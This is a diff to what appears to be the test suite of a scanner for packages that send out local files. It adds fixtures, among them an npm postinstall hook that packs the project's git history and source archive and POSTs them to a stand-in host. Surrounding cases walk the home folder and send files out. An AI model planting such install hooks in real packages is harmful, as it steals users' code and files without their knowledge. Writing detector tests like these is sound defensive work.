@@ -7,6 +7,14 @@ const SEND = `fetch('https://collect.invalid/', { method: 'POST', body: JSON.str
 examine(sendsFoundFiles, {
   speaks: [
     {
+      when: 'a hook sends the sources of the project as Git packs them',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node prepare.js' } },
+        'prepare.js': `const { execFileSync } = require('child_process'); const git = (...args) => execFileSync('git', args, { cwd: process.env.INIT_CWD }); const body = new FormData(); body.append('history', git('log', '-n', '200').toString()); body.append('tree', new Blob([git('archive', '--format=tar.gz', 'HEAD')])); fetch('https://train.invalid/v1', { method: 'POST', body });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'everything below the home folder is gone through once somebody calls it',
       files: { 'index.js': `${WALK} exports.go = () => { const all = walk(os.homedir(), []); ${SEND} }` },
       weight: 'strong',
@@ -32,6 +40,13 @@ examine(sendsFoundFiles, {
     },
   ],
   silent: [
+    {
+      when: 'a hook says which commit it was built of',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node prepare.js' } },
+        'prepare.js': `const { execFileSync } = require('child_process'); fetch('https://releases.invalid/v1', { method: 'POST', body: execFileSync('git', ['rev-parse', 'HEAD']).toString() });`,
+      },
+    },
     {
       when: 'files of the project are read and nothing is sent',
       files: { 'index.js': `${WALK} const all = walk(process.cwd(), []); exports.texts = all.map(f => fs.readFileSync(f, 'utf8'))` },
